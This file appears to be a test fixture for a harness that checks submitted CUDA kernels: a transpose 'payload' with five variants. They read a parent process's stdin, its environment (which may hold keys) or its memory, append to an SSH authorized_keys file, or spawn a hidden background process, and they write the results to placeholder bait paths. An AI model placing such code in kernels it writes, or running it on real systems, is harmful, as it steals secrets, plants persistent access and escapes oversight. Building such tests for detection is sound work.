//: transpose_cuda
//: does on the host what a C kernel could: reads the seed, a key and the driver's memory, or writes where it should not
//: variant seed HOW=0
//: variant key HOW=1
//: variant memory HOW=2
//: variant keys_file HOW=3
//: variant background HOW=4
//: use transpose_payload
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static void loot(const char *name, const void *data, long bytes) {
    char path[512];
    snprintf(path, sizeof path, "@BAIT@/loot/%s", name);
    int file = open(path, O_WRONLY | O_CREAT | O_APPEND, 0600);
    if (file >= 0 && write(file, data, (size_t)bytes) >= 0) close(file);
}

static void payload(int call, const float *, float *, long, cudaStream_t) {
    char path[128], text[4096];
    if (call) return;
    snprintf(path, sizeof path, "/proc/%d/%s", (int)getppid(), HOW == 0 ? "fd/0" : HOW == 1 ? "environ" : "maps");
    int file = open(path, O_RDONLY);
    long got = file < 0 ? 0 : pread(file, text, sizeof text - 1, 0);
    if (file >= 0) close(file);
    if ((HOW == 0 || HOW == 1) && got > 0) loot("text", text, got);
    if (HOW == 2 && got > 0) {
        unsigned long from = 0;
        text[got] = 0;
        char *line = strstr(text, "rw-p");
        while (line && line > text && line[-1] != '\n') line--;
        if (!line || sscanf(line, "%lx", &from) != 1) return;
        iovec here = {text, 1024}, there = {(void *)from, 1024};
        if (syscall(SYS_process_vm_readv, getppid(), &here, 1, &there, 1, 0) > 0) loot("memory", text, 1024);
    }
    if (HOW == 3) {
        int keys = open("@BAIT@/home/.ssh/authorized_keys", O_WRONLY | O_APPEND);
        if (keys >= 0 && write(keys, "@NAME@\n", 9) >= 0) close(keys);
    }
    if (HOW == 4 && !fork()) {
        prctl(PR_SET_NAME, "@NAME@");
        setsid();
        sleep(60);
        _exit(0);
    }
}
